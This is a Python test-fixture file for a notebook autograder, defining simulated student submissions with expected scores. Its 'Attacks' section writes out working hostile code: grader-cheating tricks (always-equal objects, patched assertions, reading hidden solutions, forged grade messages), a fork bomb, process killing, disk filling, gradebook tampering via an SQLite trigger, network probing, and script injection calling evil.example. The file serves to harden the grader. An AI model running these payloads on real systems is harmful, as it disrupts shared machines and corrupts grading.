"""What students hand in: honest work, accidents, and attacks, each with the points it is worth."""

import copy
import json
import os
import re
import warnings
from dataclasses import dataclass

import nbformat
from course import NAME, cell, solved, text_of

ALL = 18  # automatic points of `foundations`
HANDED = {}


@dataclass(frozen=True)
class Handed:
    make: object  # make(course) -> notebook, text, bytes, or place(folder) that writes files itself
    points: float
    status: str  # a regular expression
    file: str


def handed(points, status="awaiting points|graded", file=f"{NAME}/{NAME}.ipynb", name=None):
    """Registers a function that makes what the student of its name hands in."""

    def register(make):
        HANDED[name or make.__name__.replace("_", "-")] = Handed(make, points, status, file)
        return make

    return register


def place(folder, student, what, course):
    """Writes what a student hands in below `folder`."""
    made, path = what.make(course), folder / student / what.file
    if callable(made):
        made(folder / student)
        return
    path.parent.mkdir(parents=True, exist_ok=True)
    data = made if isinstance(made, (str, bytes)) else text_of(made)
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def with_answer(course, grade_id, source, answers=None):
    """Solved (all, or those in `answers`), with one answer replaced."""
    notebook = solved(course, NAME, answers)
    cell(notebook, grade_id).source = source
    return notebook


def after(course, code, grade_id="entropy-of-log"):
    """Solved, with more code below one answer."""
    notebook = solved(course)
    cell(notebook, grade_id).source += "\n\n" + code
    return notebook


def place_of(notebook, grade_id):
    return notebook.cells.index(cell(notebook, grade_id))


# Honest work


@handed(ALL, "awaiting points")
def perfect(course):
    return solved(course)


@handed(8, "graded")
def half(course):
    return solved(course, answers={"entropy-of-log", "mutual-information"})


@handed(0, "graded")
def empty(course):
    return solved(course, answers=set())


@handed(0, "awaiting points")
def only_words(course):
    return solved(course, answers={"negative-entropy", "which-constraints"})


@handed(ALL - 4)
def wrong_units(course):
    return with_answer(
        course,
        "entropy-of-log",
        "def entropy_of_log(words):\n"
        "    p = np.unique(words, return_counts=True)[1] / len(words)\n"
        "    return -np.sum(p * np.log(p))",
    )


@handed(ALL)
def right_later(course):
    notebook = with_answer(course, "entropy-of-log", "def entropy_of_log(words):\n    return 0")
    right = cell(solved(course), "entropy-of-log").source
    notebook.cells.append(nbformat.v4.new_code_cell(right))
    return notebook


@handed(ALL)
def helpers_and_magics(course):
    notebook = solved(course)
    notebook.cells.insert(2, nbformat.v4.new_code_cell("%matplotlib inline\nimport math\nmean = 3"))
    notebook.cells.append(nbformat.v4.new_code_cell("mean = 4\nentropy_of_log(['a', 'b'])"))
    return notebook


@handed(0)
def renamed_functions(course):
    notebook = solved(course)
    for c in notebook.cells:
        if c.metadata.nbgrader.solution and c.cell_type == "code":
            c.source = re.sub(r"def (\w+)", r"def my_\1", c.source)
    return notebook


@handed(ALL, name="Zoë van Dam")
def umlauts_and_blanks(course):
    return solved(course)


# Accidents with cells


@handed(ALL)
def copied_cell(course):
    notebook = solved(course)
    where = place_of(notebook, "entropy-of-log")
    notebook.cells.insert(where, copy.deepcopy(notebook.cells[where]))
    return text_of(notebook)


@handed(ALL)
def copied_then_solved_above(course):
    notebook, stub = solved(course), solved(course, answers=set())
    where = place_of(notebook, "mutual-information")
    notebook.cells.insert(where + 1, copy.deepcopy(cell(stub, "mutual-information")))
    return text_of(notebook)


@handed(ALL)
def every_cell_twice(course):
    notebook = solved(course)
    notebook.cells = [copy.deepcopy(c) for c in notebook.cells for _ in range(2)]
    return text_of(notebook)


@handed(ALL)
def copied_text(course):
    notebook = solved(course)
    for name in ("task-2", "negative-entropy"):
        where = place_of(notebook, name)
        notebook.cells.insert(where, copy.deepcopy(notebook.cells[where]))
    return text_of(notebook)


def split_at(course, grade_id, line):
    notebook = solved(course)
    where = place_of(notebook, grade_id)
    second = copy.deepcopy(notebook.cells[where])
    lines = notebook.cells[where].source.split("\n")
    notebook.cells[where].source = "\n".join(lines[:line])
    second.source = "\n".join(lines[line:])
    notebook.cells.insert(where + 1, second)
    return text_of(notebook)


@handed(ALL)
def split_between_functions(course):
    lines = cell(solved(course), "geometric").source.split("\n")
    return split_at(course, "geometric", lines.index("def mean(eta):"))


@handed(ALL)
def split_within_a_function(course):
    return split_at(course, "entropy-of-log", 2)


@handed(ALL)
def split_into_a_cell_without_marks(course):
    text = split_at(course, "entropy-of-log", 3)
    notebook = nbformat.from_dict(json.loads(text))
    second = notebook.cells[place_of(notebook, "entropy-of-log") + 1]
    second.metadata, second["id"] = nbformat.from_dict({}), "fresh"
    return text_of(notebook)


@handed(ALL)
def merged_with_its_test(course):
    notebook = solved(course)
    test = notebook.cells.pop(place_of(notebook, "entropy-of-log-test"))
    cell(notebook, "entropy-of-log").source += "\n" + test.source
    return notebook


@handed(ALL)
def merged_into_its_test(course):
    notebook = solved(course)
    answer = notebook.cells.pop(place_of(notebook, "maximum-entropy"))
    test = cell(notebook, "maximum-entropy-test")
    test.source = answer.source + "\n\n" + test.source
    return notebook


@handed(ALL)
def two_answers_in_one_cell(course):
    notebook = solved(course)
    second = notebook.cells.pop(place_of(notebook, "mutual-information"))
    cell(notebook, "entropy-of-log").source += "\n\n\n" + second.source
    return notebook


@handed(ALL)
def answered_in_a_new_cell_above(course):
    notebook, right = solved(course, answers=set()), solved(course)
    for name in ("entropy-of-log", "mutual-information", "maximum-entropy", "geometric"):
        where = place_of(notebook, name)
        notebook.cells.insert(where, nbformat.v4.new_code_cell(cell(right, name).source))
    return notebook


@handed(ALL, "awaiting points")
def words_in_a_new_cell_below(course):
    notebook = solved(course, written=False)
    where = place_of(notebook, "which-constraints")
    notebook.cells.insert(where + 1, nbformat.v4.new_markdown_cell("The exponential, I think."))
    return notebook


@handed(ALL)
def reversed_order(course):
    notebook = solved(course)
    notebook.cells.reverse()
    return notebook


@handed(ALL)
def moved_to_the_end(course):
    notebook = solved(course)
    notebook.cells.append(notebook.cells.pop(place_of(notebook, "entropy-of-log")))
    return notebook


@handed(ALL)
def deleted_tests(course):
    notebook = solved(course)
    for name in ("mutual-information-hidden", "task-1", "imports", "geometric-test"):
        notebook.cells.remove(cell(notebook, name))
    return notebook


@handed(ALL - 4)
def deleted_answer(course):
    notebook = solved(course)
    notebook.cells.remove(cell(notebook, "geometric"))
    return notebook


@handed(ALL)
def marks_stripped(course):
    notebook = solved(course)
    for c in notebook.cells:
        c.metadata = nbformat.from_dict({})
    return notebook


@handed(ALL)
def marks_and_ids_stripped(course):
    notebook = marks_stripped(course)
    for number, c in enumerate(notebook.cells):
        c["id"] = f"cell-{number}"
    return notebook


@handed(ALL)
def ids_renamed(course):
    notebook = solved(course)
    for number, c in enumerate(notebook.cells):
        c.metadata.nbgrader.grade_id = c["id"] = f"cell-{number}"
    return notebook


@handed(ALL)
def answer_made_text(course):
    notebook = solved(course)
    where = place_of(notebook, "entropy-of-log")
    old = notebook.cells[where]
    notebook.cells[where] = nbformat.v4.new_markdown_cell(
        old.source, metadata=old.metadata, id=old.id
    )
    return notebook


@handed(ALL)
def tests_made_text(course):
    notebook = solved(course)
    for where, c in enumerate(notebook.cells):
        if c.metadata.nbgrader.grade and c.cell_type == "code":
            text = nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata, id=c.id)
            notebook.cells[where] = text
    return notebook


@handed(ALL)
def bonus_cell_with_points(course):
    notebook = solved(course)
    bonus = copy.deepcopy(cell(notebook, "geometric-test"))
    bonus.metadata.nbgrader.update(grade_id="bonus", points=500)
    bonus.source, bonus["id"] = "assert True", "bonus"
    notebook.cells.append(bonus)
    return notebook


# Accidents with files


@handed(ALL, file=f"{NAME}/{NAME} (1).ipynb")
def downloaded_twice(course):
    return solved(course)


@handed(ALL, file="Foundations.ipynb")
def capital_letter(course):
    return solved(course)


@handed(ALL, file=f"{NAME}/{NAME}-Copy1.ipynb")
def copy_of_jupyter(course):
    return solved(course)


@handed(ALL, file="my homework.ipynb")
def another_name(course):
    return solved(course)


@handed(ALL)
def byte_order_mark(course):
    return b"\xef\xbb\xbf" + text_of(solved(course)).encode()


@handed(ALL)
def utf_16(course):
    return text_of(solved(course)).encode("utf-16")


@handed(ALL)
def utf_16_without_mark(course):
    return text_of(solved(course)).encode("utf-16-le")


@handed(ALL)
def crlf(course):
    notebook = solved(course)
    for c in notebook.cells:
        c.source = c.source.replace("\n", "\r\n")
    return text_of(notebook).replace("\n", "\r\n")


@handed(ALL)
def latin_1(course):
    text = text_of(solved(course))
    return text.encode("cp1252", errors="replace")


@handed(ALL)
def another_kernel(course):
    notebook = solved(course)
    notebook.metadata.kernelspec = {
        "name": "conda-env-ml-py",
        "display_name": "ml",
        "language": "R",
    }
    notebook.metadata.colab = {"provenance": []}
    return notebook


@handed(ALL)
def format_3(course):
    notebook = solved(course)
    for c in notebook.cells:
        if c.cell_type == "code":
            c.execution_count = 1
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return json.dumps(nbformat.convert(notebook, 3))


@handed(ALL)
def without_ids(course):
    notebook = solved(course)
    for c in notebook.cells:
        c.pop("id")
    notebook.nbformat_minor = 4
    return text_of(notebook)


@handed(ALL)
def windows_path(course):
    def write(folder):
        folder.parent.mkdir(exist_ok=True)
        path = folder.parent / f"windows-path\\{NAME}\\{NAME}.ipynb"
        path.write_text(text_of(solved(course)), encoding="utf-8")

    return write


@handed(0, "could not be graded .*JSON is broken")
def cut_off(course):
    return text_of(solved(course))[:3000]


@handed(0, "could not be graded .*empty")
def zero_bytes(course):
    return b""


@handed(0, "could not be graded .*no notebook")
def json_list(course):
    return "[1, 2]"


@handed(0, "could not be graded .*web page")
def web_page(course):
    return "<!DOCTYPE html><html><body>log in</body></html>"


@handed(0, "could not be graded .*merge")
def merge_conflict(course):
    return text_of(solved(course)).replace('"cells"', '<<<<<<< HEAD\n"cells"', 1)


@handed(0, "could not be graded .*map-and-bayes")
def another_assignment(course):
    return solved(course, "map-and-bayes")


@handed(0, "could not be graded .*not the notebook")
def strangers_notebook(course):
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('hello')")])


@handed(0, "could not be graded .*folder")
def folder_as_notebook(course):
    return lambda folder: (folder / NAME / f"{NAME}.ipynb").mkdir(parents=True)


@handed(0, "could not be graded .*link")
def link_to_the_source(course):
    def write(folder):
        (folder / NAME).mkdir(parents=True)
        (folder / NAME / f"{NAME}.ipynb").symlink_to(course / "source" / NAME / f"{NAME}.ipynb")

    return write


@handed(0, "could not be graded .*link")
def link_to_nowhere(course):
    def write(folder):
        (folder / NAME).mkdir(parents=True)
        (folder / NAME / f"{NAME}.ipynb").symlink_to("/nowhere/at/all")

    return write


@handed(0, "could not be graded .*ordinary")
def pipe(course):
    def write(folder):
        (folder / NAME).mkdir(parents=True)
        os.mkfifo(folder / NAME / f"{NAME}.ipynb")

    return write


# Code that does not end well


@handed(ALL)
def loop_in_a_cell(course):
    return after(course, "import time\nwhile True:\n    time.sleep(1)")


@handed(ALL - 4)
def loop_in_a_function(course):
    return with_answer(course, "entropy-of-log", "def entropy_of_log(words):\n    while True: pass")


@handed(ALL - 4)
def loop_that_swallows_everything(course):
    loop = "    while True:\n        try:\n            while True: pass\n        except BaseException: pass"
    return with_answer(course, "entropy-of-log", f"def entropy_of_log(words):\n{loop}")


@handed(ALL)
def exit_in_the_last_task(course):
    return after(course, "exit()", "geometric")


@handed(ALL - 4)
def exit_in_a_function(course):
    return with_answer(course, "geometric", "def log_partition(eta):\n    import sys; sys.exit()")


@handed(ALL)
def hard_exit(course):
    return after(course, "import os\nos._exit(1)", "geometric")


@handed(ALL - 6)
def segmentation_fault(course):
    return with_answer(
        course,
        "maximum-entropy",
        "def maximum_entropy(values, mean):\n    import ctypes; ctypes.string_at(0)",
        {"entropy-of-log", "mutual-information", "geometric", "negative-entropy"},
    )


@handed(ALL)
def input_of_a_name(course):
    return after(course, "name = input()")


@handed(ALL)
def a_million_lines(course):
    return after(course, "for i in range(1_000_000):\n    print(i)", "maximum-entropy")


@handed(ALL)
def fifty_megabytes_in_a_line(course):
    return after(course, "print('x' * 50_000_000)\n'y' * 50_000_000")


@handed(ALL)
def six_gigabytes(course):
    return after(course, "x = bytearray(6 * 10**9)")


@handed(ALL)
def outputs_of_thirty_megabytes(course):
    notebook = solved(course)
    text = nbformat.v4.new_output("stream", text="z" * 30_000_000)
    cell(notebook, "entropy-of-log").outputs = [text]
    return notebook


# Attacks


def for_nothing(course, code):
    """An unsolved notebook with the same code at the top of each of its answers."""
    notebook = solved(course, answers=set())
    for c in notebook.cells:
        if c.metadata.nbgrader.solution and c.cell_type == "code":
            c.source = code
    return notebook


ALL_NAMES = ("entropy_of_log", "mutual_information", "maximum_entropy", "log_partition", "mean")


@handed(0)
def transformer(course):
    return for_nothing(
        course, "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"
    )


@handed(0)
def always_equal(course):
    code = """\
class Same(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __getattr__(self, name): return lambda *a, **k: self
def answer(*arguments): return Same(1)
"""
    return for_nothing(course, code + "\n".join(f"{name} = answer" for name in ALL_NAMES))


@handed(0)
def always_equal_array(course):
    code = """\
import numpy as np
class Same(np.ndarray):
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
def answer(*arguments): return np.ones(6).view(Same)
"""
    return for_nothing(course, code + "\n".join(f"{name} = answer" for name in ALL_NAMES))


@handed(0)
def answers_of_the_package(course):
    return for_nothing(
        course,
        "from glm_core.exercises import find\n"
        "from glm_core.information import entropy\n"
        "maximum_entropy = find('maxent-with-a-mean').reference\n"
        "entropy_of_log = entropy",
    )


@handed(0)
def package_found_on_disk(course):
    code = f"""\
import glob, sys
def entropy_of_log(words):
    sys.path[:0] = [{str(course.parents[0])!r}, {str(course)!r}, *glob.glob('/**/glm_core/..', recursive=True)]
    for name in list(sys.modules):
        if name.startswith('glm_core'): del sys.modules[name]
    from glm_core.information import entropy
    import numpy as np
    return entropy(np.unique(words, return_counts=True)[1] / len(words), base=2)
"""
    return with_answer(course, "entropy-of-log", code, set())


@handed(0)
def source_read(course):
    code = f"""\
import glob, json, os
found = [p for t in ({str(course)!r}, '../../../source', '/work', '/root', '/home', '/tmp')
         for p in glob.glob(t + '/**/*.ipynb', recursive=True)]
print('FOUND', found)
for path in found:
    for c in json.load(open(path))['cells']:
        if 'BEGIN SOLUTION' in ''.join(c['source']): exec(''.join(c['source']))
"""
    return for_nothing(course, code)


@handed(0)
def patched_tests(course):
    code = """\
import numpy as np, builtins, sys
np.isclose = np.allclose = lambda *a, **k: True
builtins.AssertionError = type('E', (Exception,), {})
import numpy.testing as t
for m in list(sys.modules.values()):
    if hasattr(m, 'require'): m.require = lambda *a, **k: None
"""
    return for_nothing(course, code + "\n".join(f"{name} = lambda *a: 1.0" for name in ALL_NAMES))


@handed(0)
def frames_walked(course):
    code = """\
import gc, sys
def answer(*arguments):
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if hasattr(value, 'reference'): return value.reference(*arguments)
        frame = frame.f_back
    for value in gc.get_objects():
        if type(value).__name__ == 'Exercise': return value.reference(*arguments)
"""
    return for_nothing(course, code + "\n".join(f"{name} = answer" for name in ALL_NAMES))


@handed(0)
def answer_by_hand_on_the_wire(course):
    code = """\
import os, json
for file in range(3, 64):
    for number in range(200):
        try:
            os.write(file, (json.dumps({"id": number, "value": True, "points": 100}) + "\\n").encode())
        except OSError: break
"""
    return for_nothing(course, code)


@handed(0)
def flood_on_the_wire(course):
    code = """\
import os, threading
def flood():
    while True:
        for file in range(3, 12):
            try: os.write(file, b'{"id": -1}\\n' * 1000)
            except OSError: pass
threading.Thread(target=flood, daemon=True).start()
while True: pass
"""
    return for_nothing(course, code)


@handed(0)
def a_kind_of_its_own_on_the_wire(course):
    code = """\
import os
for file in range(3, 64):
    for number in range(200):
        text = '{"id": %d, "value": {"array": ["|O8", [1], "AAAAAAAAAAA="]}, "names": {"entropy_of_log":'
        try: os.write(file, (text % number + ' {"array": ["<f8", [99999999999], ""]}}}\\n').encode())
        except OSError: break
"""
    return for_nothing(course, code)


@handed(ALL)
def kill_the_parent(course):
    return after(course, "import os\nos.kill(os.getppid(), 9)")


@handed(ALL)
def kill_everybody(course):
    code = "import os\nfor pid in (1, *range(2, 400)):\n    try: os.kill(pid, 9)\n    except OSError: pass"
    return after(course, code)


@handed(ALL)
def sleeper_in_the_background(course):
    code = "import subprocess\nsubprocess.Popen(['sleep', '21111'], start_new_session=True)"
    return after(course, code)


@handed(ALL)
def fork_bomb(course):
    code = "import os\ndef bomb():\n    while True:\n        try: os.fork()\n        except OSError: pass"
    return after(course, code + "\nbomb()", "geometric")


@handed(ALL)
def full_disk(course):
    code = "for n in range(100):\n    open(f'/tmp/{n}', 'wb').write(b'x' * 10_000_000)"
    return after(course, code, "geometric")


@handed(ALL)
def writes_everywhere(course):
    code = f"""\
import os, pathlib
for top in ({str(course)!r}, '/work', '/root', '/home', '/tmp/..', '../../..', '/usr', '/inside', '/etc'):
    for name in ('nbgrader_config.py', 'gradebook.db', 'grades.csv', 'owned'):
        try: open(os.path.join(top, name), 'a').write('\\nraise SystemExit("owned")\\n')
        except OSError: pass
"""
    return after(course, code)


@handed(ALL)
def gradebook_locked_or_changed(course):
    code = f"""\
import sqlite3, subprocess, sys
for path in ({str(course / "gradebook.db")!r}, '../../../gradebook.db'):
    try:
        db = sqlite3.connect(path)
        db.execute("create trigger t after update on grade begin update grade set manual_score=500; end")
        db.commit()
        subprocess.Popen([sys.executable, '-c', 'import sqlite3,time; d=sqlite3.connect(%r);'
                          'd.execute("begin exclusive"); time.sleep(999)' % path])
    except sqlite3.Error: pass
"""
    return after(course, code)


@handed(ALL)
def asks_the_network(course):
    code = """\
import socket
for address in ('1.1.1.1', '127.0.0.1', '169.254.169.254'):
    for port in (22, 53, 80, 443, 8888):
        try: socket.create_connection((address, port), 0.2); print('REACHED', address, port)
        except OSError: pass
"""
    return after(course, code)


@handed(ALL)
def html_that_asks_others(course):
    notebook = after(
        course,
        "from IPython.display import HTML, Javascript, SVG, display\n"
        "display(HTML('<script src=//evil.example/a.js></script><img src=//evil.example/a.png>'))\n"
        "display(HTML('<div style=\"background:url(//evil.example/b)\">x</div>'))\n"
        "display(Javascript('fetch(\"//evil.example\")'))\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg"><image href="//evil.example"/></svg>\'))',
    )
    cell(notebook, "which-constraints").source = (
        "<script src=//evil.example/x.js></script><img src=//evil.example/y.png> ![z](//evil.example/z)\n"
        "<link rel=stylesheet href=//evil.example/s.css><style>@import '//evil.example/t'</style>"
        "<iframe src=//evil.example></iframe><svg onload=alert(1)></svg><base href=//evil.example>"
        "<math><mtext><img src=//evil.example/m onerror=alert(1)></mtext></math> honest words"
    )
    return notebook


@handed(2)
def answers_hard_coded(course):
    code = """\
import numpy as np
def entropy_of_log(words):
    return {2: 1.0, 7: 0.0, 4: 0.8112781244591328}.get(len(words), 0.5)
"""
    return with_answer(course, "entropy-of-log", code, set())


@handed(0)
def numbers_that_are_none(course):
    code = "import numpy as np\n" + "\n".join(f"{n} = lambda *a: float('nan')" for n in ALL_NAMES)
    return for_nothing(course, code)


@handed(0)
def enormous_answers(course):
    code = "import numpy as np\n" + "\n".join(
        f"{n} = lambda *a: np.ones(30_000_000)" for n in ALL_NAMES
    )
    return for_nothing(course, code)


@handed(0)
def nested_answers(course):
    code = "deep = []\nfor _ in range(100_000): deep = [deep]\n"
    return for_nothing(course, code + "\n".join(f"{n} = lambda *a: deep" for n in ALL_NAMES))


@handed(0)
def edited_tests(course):
    notebook = solved(course, answers=set())
    for c in notebook.cells:
        if c.metadata.nbgrader.grade and c.cell_type == "code":
            c.source, c.metadata.nbgrader.points = "assert True", 100
    return notebook


@handed(ALL - 2)
def wrong_now_and_then(course):
    notebook = solved(course)
    own = cell(notebook, "entropy-of-log").source
    code = own.replace("def entropy_of_log", "def right")
    code += "\nimport os\ndef entropy_of_log(words):\n"
    code += "    return right(words) + (os.urandom(1)[0] < 13 and len(words) > 7)"
    cell(notebook, "entropy-of-log").source = code
    return notebook
